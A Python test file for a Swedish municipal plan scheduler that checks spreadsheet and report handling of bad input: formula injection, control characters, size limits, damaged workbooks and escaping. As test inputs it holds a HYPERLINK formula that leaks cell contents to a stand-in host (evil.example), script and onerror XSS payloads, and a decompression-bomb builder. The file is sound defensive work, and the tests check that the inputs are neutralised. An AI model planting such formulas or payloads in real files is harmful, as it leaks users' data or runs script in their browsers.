"""Plan files under bad input (issue 9): formula injection, control characters, limits, damaged
workbooks and the edge cases of real ones. Every refusal is one `Fel:` line naming where."""

from __future__ import annotations

import os
import subprocess
import sys
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from scheduler.base.errors import ConfigError, PlanFileError
from scheduler.base.text_safety import first_control_character
from scheduler.model.plan import Area, Measure, Plan, PolicyOverrides
from scheduler.plan.files import read_plan, write_plan
from scheduler.plan.files.limits import ReadLimits
from scheduler.plan.files.toml_file import plan_from_mapping
from scheduler.settings.config import load_settings
from scheduler.settings.model import Limits
from scheduler.store.engine import open_store
from scheduler.store.followups import AnswerInput, save_answers
from scheduler.store.plans import find_plan_id, load_plan
from tests.support.cli import Cli, write_config
from tests.support.seed import ROOT, SEED_PLAN
from tests.test_planfile import HEADER, INSTRUCTIONS, seed

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B3,"x")'


def _error(path: Path, **kwargs: object) -> PlanFileError:
    with pytest.raises(PlanFileError) as caught:
        read_plan(path, **kwargs)  # type: ignore[arg-type]
    return caught.value


def _plan(*measures: Measure, area: str = "Trygg miljö") -> Plan:
    return Plan("Testkommunen", 2025, (Area(area, measures),))


def _string_cells(path: Path) -> list[tuple[str, str, object]]:
    """(sheet, coordinate, data type) of every non-empty cell, read back with openpyxl."""
    workbook = load_workbook(path)
    return [
        (sheet.title, cell.coordinate, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def answer_for_first_measures(cli: Cli, texts: list[str], plan: Path = SEED_PLAN) -> None:
    """A 2024 plan (the seed) imported, the follow-up started, and `texts` submitted as the
    answers to the first measures (stored as the form would store them)."""
    assert cli("import", str(plan)).code == 0
    assert cli("followup", "start", "--now", "2024-11-15T08:00").code == 0
    url = cli.config.read_text(encoding="utf-8").split('url = "', 2)[2].split('"')[0]
    engine = open_store(url)
    plan_id = find_plan_id(engine)
    measures = load_plan(engine, plan_id).measures
    items = [AnswerInput(m.id, "delvis", text) for m, text in zip(measures, texts, strict=False)]
    save_answers(engine, plan_id=plan_id, role="Polis", items=items, submit=True,
                 by_coordinator=True, now=datetime(2024, 11, 20, 9, 0, tzinfo=UTC))  # fmt: skip
    engine.dispose()


# --- 1. formula injection -----------------------------------------------------------------------


INJECTIONS = [HYPERLINK, "=1+1", "+46 8 123 45", "-5 grader", "@SUM(A1:A2)", "#N/A", "#DIV/0!"]


def test_formula_text_in_a_plan_is_written_as_a_string_not_a_formula(tmp_path: Path) -> None:
    """`scheduler export`: text starting with = + - @ (or an error code) is a string cell and the
    workbook imports back unchanged (it failed with «åtgärden saknar titel»)."""
    measures = [Measure(title=text, cause=text, action="Åtgärd", when_text=text,
                        responsible_text="Polis", followup_text=text) for text in INJECTIONS]  # fmt: skip
    plan = _plan(*measures, area=HYPERLINK)
    path = tmp_path / "plan.xlsx"
    write_plan(plan, path)
    sheet = load_workbook(path).worksheets[1]
    assert sheet["A3"].value == HYPERLINK and sheet["A3"].data_type == "s"
    assert sheet["A2"].value == HYPERLINK and sheet["A2"].data_type == "s"
    assert {kind for *_, kind in _string_cells(path)} <= {"s", "n"}
    assert read_plan(path).plan == plan


def test_formula_text_in_a_followup_answer_is_exported_as_a_string(
    sqlite_cli: Cli, tmp_path: Path
) -> None:
    """`scheduler followup export`: an answer `=HYPERLINK(…)`, also after a leading tab, lands as
    that literal text in the coordinator's workbook, and the workbook imports back."""
    answer_for_first_measures(sqlite_cli, [HYPERLINK, "\t=2+3", "@SUM(A1)"])
    path = tmp_path / "uppfoljning.xlsx"
    assert sqlite_cli("followup", "export", str(path)).code == 0
    sheet = load_workbook(path).worksheets[1]
    column = [c.value for c in sheet[1]].index("Uppföljning") + 1
    cells = [sheet.cell(row, column) for row in (3, 4, 5)]
    assert [c.value for c in cells] == [HYPERLINK, "\t=2+3", "@SUM(A1)"]
    assert [c.data_type for c in cells] == ["s", "s", "s"]
    assert not [cell for cell in _string_cells(path) if cell[2] == "f"]
    again = read_plan(path).plan.areas[0].measures
    assert [m.followup_text for m in again[:3]] == [HYPERLINK, "=2+3", "@SUM(A1)"]


# --- 2. control characters ----------------------------------------------------------------------


def test_a_control_character_in_a_toml_plan_is_refused_naming_area_measure_and_key(
    sqlite_cli: Cli, tmp_path: Path
) -> None:
    path = tmp_path / "plan.toml"
    path.write_text(
        'organisation = "X"\nyear = 2025\n[[areas]]\nname = "A"\n[[areas.measures]]\n'
        'title = "T"\ncause = "ring \\u0007 klockan"\n',
        encoding="utf-8",
    )
    result = sqlite_cli("import", str(path))
    assert result.code == 2
    assert result.err.startswith("Fel:") and len(result.err.strip().splitlines()) == 1
    assert "rad 5: område 1 «A», åtgärd 1: «cause»: otillåtet styrtecken U+0007" in result.err
    assert "Inga planer" in sqlite_cli("plan").err or sqlite_cli("plan").code == 3


@pytest.mark.parametrize("key", ["name", "title", "convener", "location"])
def test_a_nul_in_any_toml_text_field_is_refused(tmp_path: Path, key: str) -> None:
    fields = {"name": "A", "title": "T", "convener": "Polis", "location": "Rum 1"}
    fields[key] += "\\u0000"
    path = tmp_path / "plan.toml"
    path.write_text(
        f'organisation = "X"\nyear = 2025\n[[areas]]\nname = "{fields["name"]}"\n'
        f'[[areas.measures]]\ntitle = "{fields["title"]}"\nconvener = "{fields["convener"]}"\n'
        f'[areas.measures.schedule]\nlocation = "{fields["location"]}"\n',
        encoding="utf-8",
    )
    assert "otillåtet styrtecken U+0000" in str(_error(path))


def test_a_control_character_in_a_workbook_cell_is_refused_naming_sheet_row_and_column(
    tmp_path: Path,
) -> None:
    workbook = Workbook()
    workbook.remove(workbook.active)
    _area_sheet(workbook, "Brott", "Brott i city",
                [["Nattvandring", "Orsak\x7f", "Åtgärd", "Vid behov", "Polis", None]])  # fmt: skip
    path = tmp_path / "plan-2025.xlsx"
    workbook.save(path)
    error = _error(path, organisation="X")
    assert (error.sheet, error.row, error.column) == ("Brott", 3, "B")
    assert "otillåtet styrtecken U+007F" in str(error)


def test_control_characters_stored_before_the_check_are_dropped_on_export(tmp_path: Path) -> None:
    """xlsx and TOML writers are the last line of defence: no IllegalCharacterError."""
    plan = _plan(Measure(title="Larm\x07", cause="a\x00b", followup_text="klar\x1b[31m",
                         schedule=PolicyOverrides(location="Rum\x0c 2")), area="Om\x08råde")  # fmt: skip
    clean = _plan(Measure(title="Larm", cause="ab", followup_text="klar[31m",
                          schedule=PolicyOverrides(location="Rum 2")), area="Område")  # fmt: skip
    for suffix in (".xlsx", ".toml"):
        path = tmp_path / f"plan{suffix}"
        write_plan(plan, path)
        assert read_plan(path).plan == clean


def test_a_control_character_in_a_followup_answer_does_not_break_the_export(
    sqlite_cli: Cli, tmp_path: Path
) -> None:
    answer_for_first_measures(sqlite_cli, ["Klart\x07 och gjort"])
    path = tmp_path / "uppfoljning.xlsx"
    result = sqlite_cli("followup", "export", str(path))
    assert result.code == 0, result.err
    sheet = load_workbook(path).worksheets[1]
    column = [c.value for c in sheet[1]].index("Uppföljning") + 1
    assert sheet.cell(3, column).value == "Klart och gjort"


# --- 4. limits ----------------------------------------------------------------------------------


def _area_sheet(workbook: Workbook, title: str, area: str, rows: list[list[object]]) -> None:
    sheet = workbook.create_sheet(title)
    sheet.append(HEADER)
    sheet.append([area, *INSTRUCTIONS])
    for row in rows:
        sheet.append(row)


def _last_row_workbook(path: Path) -> None:
    """6-7 KB: three area sheets, each with one formatted empty cell at row 1,048,576."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    for n in range(3):
        _area_sheet(workbook, f"Område {n}", f"Område {n}",
                    [[f"Åtgärd {n}", "Orsak", "Gör", "2 ggr/år", "Polis", None]])  # fmt: skip
        workbook.worksheets[n].cell(1_048_576, 6).font = Font(bold=True)
    workbook.save(path)


def _run_limited(
    config: Path, *argv: str, memory_mb: int = 300
) -> subprocess.CompletedProcess[str]:
    """`scheduler …` in a process of its own whose address space is capped (RLIMIT_AS)."""
    code = (
        "import resource, sys\n"
        f"limit = {memory_mb} * 1024 * 1024\n"
        "resource.setrlimit(resource.RLIMIT_AS, (limit, limit))\n"
        "from scheduler.cli import main\n"
        "sys.exit(main(sys.argv[1:]))\n"
    )
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [sys.executable, "-c", code, "--config", str(config), *argv],
        capture_output=True, text=True, env=env, cwd=config.parent, timeout=600,
    )  # fmt: skip


@pytest.mark.processes
def test_a_small_workbook_formatted_down_to_row_1048576_imports_within_300_mb(
    tmp_path: Path,
) -> None:
    """It took 4.5 GB and 64 s: every row up to the sheet's last was touched."""
    path = tmp_path / "plan-2025.xlsx"
    _last_row_workbook(path)
    assert path.stat().st_size < 10_000
    config = write_config(tmp_path / "config.toml", f"sqlite:///{tmp_path / 'db.sqlite3'}")
    assert _run_limited(config, "db", "upgrade").returncode == 0
    result = _run_limited(config, "import", str(path), "--organisation", "Testkommunen")
    assert result.returncode == 0, result.stderr
    assert "3 områden, 3 åtgärder" in result.stdout


def _bomb(path: Path, megabytes: int) -> None:
    """A workbook whose one cell inflates to `megabytes` MB of text, written in chunks."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    _area_sheet(workbook, "A", "A", [["PLACEHOLDER", "x", "x", "x", "x", None]])
    plain = tmp = path.with_suffix(".plain.xlsx")
    workbook.save(plain)
    with zipfile.ZipFile(tmp) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            data = source.read(info)
            if b"PLACEHOLDER" not in data:
                out.writestr(info, data)
                continue
            before, after = data.split(b"PLACEHOLDER")
            with out.open(info.filename, "w", force_zip64=True) as target:
                target.write(before)
                chunk = b"A" * (1024 * 1024)
                for _ in range(megabytes):
                    target.write(chunk)
                target.write(after)
    plain.unlink()


@pytest.mark.processes
def test_a_workbook_inflating_to_200_mb_is_refused_before_parsing(tmp_path: Path) -> None:
    """200 KB on disk, one 200 MB cell: it took 1.8 GB and was stored as is."""
    path = tmp_path / "plan-2025.xlsx"
    _bomb(path, 200)
    assert path.stat().st_size < 400_000
    config = write_config(tmp_path / "config.toml", f"sqlite:///{tmp_path / 'db.sqlite3'}")
    result = _run_limited(config, "import", str(path), "--organisation", "X")
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith("Fel:") and "limits.max_uncompressed_mb" in result.stderr
    assert "gränsen är 25 MB" in result.stderr


def test_a_cell_over_the_text_limit_is_refused_naming_the_limit_and_the_cell(
    tmp_path: Path,
) -> None:
    workbook = Workbook()
    workbook.remove(workbook.active)
    _area_sheet(workbook, "A", "A", [["T", "x" * 10_001, "x", "x", "x", None]])
    path = tmp_path / "plan-2025.xlsx"
    workbook.save(path)
    error = _error(path, organisation="X")
    assert (error.sheet, error.row, error.column) == ("A", 3, "B")
    assert "10 001 tecken" in str(error) and "limits.max_text_chars" in str(error)
    assert read_plan(
        path, organisation="X", limits=ReadLimits.from_section(Limits(max_text_chars=20_000))
    ).plan


def test_the_text_limit_applies_to_toml_plans_and_is_configurable(
    tmp_path: Path, sqlite_cli: Cli
) -> None:
    path = tmp_path / "plan.toml"
    path.write_text(
        'organisation = "X"\nyear = 2025\n[[areas]]\nname = "A"\n[[areas.measures]]\n'
        f'title = "T"\naction = "{"å" * 300}"\n',
        encoding="utf-8",
    )
    with sqlite_cli.config.open("a", encoding="utf-8") as config:
        config.write("\n[limits]\nmax_text_chars = 200\n")
    result = sqlite_cli("import", str(path))
    assert result.code == 2 and "«action»: texten har 300 tecken; gränsen är 200" in result.err
    assert read_plan(path).plan.areas[0].measures[0].action == "å" * 300


def test_a_sheet_over_the_row_limit_is_refused_naming_the_limit(tmp_path: Path) -> None:
    workbook = Workbook()
    workbook.remove(workbook.active)
    _area_sheet(workbook, "Många", "A", [[f"T{n}", "x", "x", "x", "x", None] for n in range(20)])
    path = tmp_path / "plan-2025.xlsx"
    workbook.save(path)
    error = _error(
        path, organisation="X", limits=ReadLimits.from_section(Limits(max_rows_per_sheet=10))
    )
    assert error.sheet == "Många" and "fler än 10 rader" in str(error)
    assert "limits.max_rows_per_sheet" in str(error)
    assert len(read_plan(path, organisation="X").plan.areas[0].measures) == 20


@pytest.mark.parametrize(
    ("table", "expected"),
    [
        ("max_text_chars = 50", "«limits.max_text_chars» ska vara ett heltal 100–32767"),
        ('max_rows_per_sheet = "många"', "«limits.max_rows_per_sheet» ska vara ett heltal"),
        ("max_uncompressed_mb = 0", "«limits.max_uncompressed_mb» ska vara ett heltal 1–2000"),
        ("max_cells = 5", "okänd nyckel «limits.max_cells»"),
    ],
)
def test_bad_limits_in_the_config_are_named(tmp_path: Path, table: str, expected: str) -> None:
    config = write_config(
        tmp_path / "config.toml", f"sqlite:///{tmp_path / 'db.sqlite3'}", f"[limits]\n{table}\n"
    )
    with pytest.raises(ConfigError) as caught:
        load_settings(str(config), environ={})
    assert expected in str(caught.value)


# --- 5. edge cases of real workbooks ------------------------------------------------------------


def test_an_area_name_merged_over_the_blank_row_under_it_is_not_a_measure(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Unga"
    sheet.append(HEADER)
    sheet.append(["Unga i riskzon", *INSTRUCTIONS])
    sheet.append([])
    sheet.append(["SSP", "Orsak", "Möten", "8 ggr/år", "Polis", None])
    sheet.merge_cells("A2:A3")
    path = tmp_path / "plan-2025.xlsx"
    workbook.save(path)
    area = read_plan(path, organisation="X").plan.areas[0]
    assert area.name == "Unga i riskzon"
    assert [m.title for m in area.measures] == ["SSP"]


def test_duplicate_area_names_in_a_toml_plan_are_refused_naming_both(tmp_path: Path) -> None:
    path = tmp_path / "plan.toml"
    path.write_text(
        'organisation = "X"\nyear = 2025\n[[areas]]\nname = "Trygg miljö"\n[[areas]]\n'
        'name = "B"\n[[areas]]\nname = " Trygg miljö"\n',
        encoding="utf-8",
    )
    error = str(_error(path))
    assert "rad 7: område 3" in error and "«Trygg miljö» finns redan som område 1 (rad 3)" in error


def test_duplicate_area_names_in_a_workbook_are_refused_naming_both_sheets(
    tmp_path: Path, sqlite_cli: Cli
) -> None:
    workbook = Workbook()
    workbook.remove(workbook.active)
    _area_sheet(workbook, "Första", "Trygg miljö", [["T", "x", "x", "x", "x", None]])
    _area_sheet(workbook, "Andra", "Trygg miljö", [["U", "x", "x", "x", "x", None]])
    path = tmp_path / "plan-2025.xlsx"
    workbook.save(path)
    result = sqlite_cli("import", str(path), "--organisation", "X")
    assert result.code == 2 and result.err.startswith("Fel:")
    assert "«Trygg miljö» finns på två flikar, «Första» och «Andra»" in result.err


def test_a_non_integer_nr_in_the_hidden_scheduler_sheet_is_refused(
    tmp_path: Path, sqlite_cli: Cli
) -> None:
    plan = _plan(Measure(title="SSP", convener="Polis"))
    path = tmp_path / "plan.xlsx"
    write_plan(plan, path)
    workbook = load_workbook(path)
    workbook["scheduler"]["C2"] = "andra"
    workbook.save(path)
    result = sqlite_cli("import", str(path))
    assert result.code == 2 and result.err.startswith("Fel:")
    assert "flik «scheduler», rad 2, kolumn C: kolumnen Nr ska vara ett heltal" in result.err


def _rewrite(path: Path, member: str | None, content: bytes | None) -> None:
    """Replace (or with None, drop) one part of an .xlsx."""
    with zipfile.ZipFile(path) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    assert member is None or member in parts
    if member is not None:
        if content is None:
            del parts[member]
        else:
            parts[member] = content
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)


@pytest.mark.parametrize(
    ("member", "content"),
    [
        ("xl/worksheets/sheet2.xml", b"<worksheet><sheetData><row r='1'><c r='A1'"),  # ParseError
        ("xl/worksheets/sheet2.xml", None),  # KeyError: a missing part
        ("xl/styles.xml", b"\x00\x01 not xml"),
        ("xl/workbook.xml", b"<?xml version='1.0'?><workbook"),
    ],
    ids=[
        "truncated-sheet-xml",
        "missing-sheet",
        "garbage-styles",
        "truncated-workbook",
    ],
)
def test_malformed_xml_inside_an_xlsx_is_not_a_readable_workbook(
    tmp_path: Path, sqlite_cli: Cli, member: str, content: bytes | None
) -> None:
    path = tmp_path / "plan.xlsx"
    write_plan(seed(), path)
    _rewrite(path, member, content)
    result = sqlite_cli("import", str(path))
    assert result.code == 2, result.err
    assert result.err.startswith("Fel:") and "ingen Excel-arbetsbok (.xlsx) som går att läsa" in (
        result.err
    )
    assert len(result.err.strip().splitlines()) == 1


def test_a_formula_without_a_cached_value_is_named_not_read_as_an_empty_title(
    tmp_path: Path,
) -> None:
    workbook = Workbook()
    workbook.remove(workbook.active)
    _area_sheet(workbook, "A", "A", [['=CONCAT("S","SP")', "x", "x", "x", "x", None]])
    path = tmp_path / "plan-2025.xlsx"
    workbook.save(path)  # openpyxl saves formulas without a computed value
    error = _error(path, organisation="X")
    assert (error.sheet, error.row, error.column) == ("A", 3, "A")
    assert 'cellen A3 innehåller en formel utan beräknat värde (=CONCAT("S","SP"))' in str(error)


def test_a_cached_error_value_is_an_error_not_a_title(tmp_path: Path) -> None:
    workbook = Workbook()
    workbook.remove(workbook.active)
    _area_sheet(workbook, "A", "A", [["#DIV/0!", "x", "x", "x", "x", None]])
    path = tmp_path / "plan-2025.xlsx"
    workbook.save(path)  # openpyxl stores "#DIV/0!" as an error cell, as Excel caches one
    assert load_workbook(path)["A"]["A3"].data_type == "e"
    error = _error(path, organisation="X")
    assert (error.row, error.column) == (3, "A")
    assert "cellen A3 innehåller felvärdet #DIV/0!" in str(error)


# --- 3. the .md and .html reports ---------------------------------------------------------------

HOSTILE_TITLE = "SSP <script>alert(1)</script>\n# Kapad rubrik"
HOSTILE_ANSWER = (
    "Klart <img src=x onerror=alert(1)> och *fet* _kursiv_ `kod` ~~struken~~ [länk](javascript:x)\n"
    "# inte en rubrik\n- inte en lista\n1. inte numrerad\n\n| a | b |\n| - | - |\n| c | d |\n---"
)


def _hostile_report(cli: Cli, tmp_path: Path, suffix: str) -> str:
    plan = Plan("Kommun <b>fet</b>", 2024, (
        Area("Område *ett* <script>x()</script>", (
            Measure(title=HOSTILE_TITLE, when_text="4 ggr/år\n## också", responsible_text="Polis"),
        )),
    ))  # fmt: skip
    path = tmp_path / "plan.toml"
    write_plan(plan, path)
    answer_for_first_measures(cli, [HOSTILE_ANSWER], plan=path)
    report = tmp_path / f"rapport{suffix}"
    assert cli("followup", "export", str(report), "--now", "2024-12-20T10:00").code == 0
    return report.read_text(encoding="utf-8")


def test_the_md_report_escapes_markdown_and_html_in_plan_and_answer_text(
    sqlite_cli: Cli, tmp_path: Path
) -> None:
    """Rendered by a CommonMark renderer (markdown-it, raw HTML allowed, GFM tables): no tag,
    link, emphasis, code, table, list or heading comes from the text, and the multi-line title
    stays one heading."""
    from markdown_it import MarkdownIt

    text = _hostile_report(sqlite_cli, tmp_path, ".md")
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)
    for tag in ("<script", "<img", "<b>", "<a ", "<em>", "<code>", "<table", "<s>", "<del>", "<ol"):
        assert tag not in html, tag
    assert html.count("<h1>") == 1 and html.count("<h2>") == 1 and html.count("<h3>") == 1
    assert "<h3>SSP &lt;script&gt;alert(1)&lt;/script&gt; # Kapad rubrik</h3>" in html
    assert "<h2>Område *ett* &lt;script&gt;x()&lt;/script&gt;</h2>" in html
    assert "onerror=alert(1)" in html and "[länk](javascript:x)" in html
    assert "<li>inte en lista" not in html and "- inte en lista" in html
    assert "# inte en rubrik" in html and "<hr" not in html


def test_the_html_report_stays_escaped(sqlite_cli: Cli, tmp_path: Path) -> None:
    text = _hostile_report(sqlite_cli, tmp_path, ".html")
    assert "<script" not in text and "<img" not in text and "<b>fet" not in text
    assert "&lt;img src=x onerror=alert(1)&gt;" in text and "&lt;script&gt;" in text


# --- 6. the property: any text round-trips or is refused with a message -------------------------

_PREFIXES = ["", "=", "+", "-", "@", "\t", "\t=", " =", "#N/A", "#DIV/0!", "'", "\n", "\r\n"]
# Any text without control characters (tab and line feed included) ...
_BODY = st.text(
    st.characters(exclude_categories=("Cc", "Cs"), include_characters="\t\n"), max_size=24
)
# ... and now and then one of these: formulas, emoji, line ends, control characters.
_SPECIAL = st.sampled_from(
    [
        'HYPERLINK("http://evil.example/?leak="&B3,"x")',
        "😀 🇸🇪",
        "a\r\nb\rc",
        "\x07",
        "\x00",
        "\x7f",
        "\u0085",
        "\uffff",
        "rad 1\n\n  rad 2 ",
        "1+1",
    ]
)
_TEXT = st.builds(
    lambda prefix, body: prefix + body,
    st.sampled_from(_PREFIXES),
    st.integers(0, 9).flatmap(lambda n: _SPECIAL if n == 0 else _BODY),
)
_NAMED = _TEXT.map(lambda text: text if text.strip() else text + "x")  # titles, names
_FIELDS = ("title", "cause", "action", "when_text", "responsible_text", "followup_text",
           "operational_goal")  # fmt: skip


@st.composite
def _raw_plans(draw: st.DrawFn) -> dict[str, object]:
    areas = []
    for _ in range(draw(st.integers(1, 2))):
        measures = []
        for _ in range(draw(st.integers(0, 2))):
            measure = {field: draw(_TEXT) for field in _FIELDS}
            measure["title"] = draw(_NAMED)
            if draw(st.booleans()):
                measure["convener"] = draw(_TEXT)
            measures.append(measure)
        areas.append({"name": draw(_NAMED), "measures": measures})
    return {"organisation": draw(_NAMED), "year": 2025, "areas": areas}


def _should_refuse(raw: dict[str, Any]) -> bool:
    """What input is refused for: a control character, an empty title, name, organisation or
    convener, two areas of one name."""
    texts = [raw["organisation"]]
    for area in raw["areas"]:
        texts.append(area["name"])
        for measure in area["measures"]:
            texts += [measure[f] for f in _FIELDS] + [measure.get("convener", "x")]
            if not measure["title"].strip():
                return True
    names = [a["name"].strip() for a in raw["areas"]]
    return (
        any(first_control_character(t) is not None for t in texts)
        or not all(t.strip() for t in [raw["organisation"], *names])
        or any(not m.get("convener", "x").strip() for a in raw["areas"] for m in a["measures"])
        or len(set(names)) < len(names)
    )


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(raw=_raw_plans())
def test_any_text_round_trips_through_xlsx_and_toml_or_is_refused_at_input(
    tmp_path: Path, raw: dict[str, Any]
) -> None:
    """Leading = + - @, tabs, control characters, emoji and line breaks in every text field:
    plan → xlsx → plan and plan → TOML → plan give the same plan, no exported cell is a formula;
    or the input is refused with a message."""
    try:
        plan = plan_from_mapping(raw, source="hypothesis.toml")
    except PlanFileError as refused:
        event("refused at input")
        assert _should_refuse(raw), str(refused)
        assert str(refused).startswith("fil hypothesis.toml")
        return
    assert not _should_refuse(raw)
    event("round-tripped")
    for suffix in (".xlsx", ".toml"):
        path = tmp_path / f"plan{suffix}"
        write_plan(plan, path)
        assert read_plan(path).plan == plan
    cells = _string_cells(tmp_path / "plan.xlsx")
    assert all(
        kind == "s" or (sheet, coordinate[0]) == ("scheduler", "C")
        for sheet, coordinate, kind in cells
    )
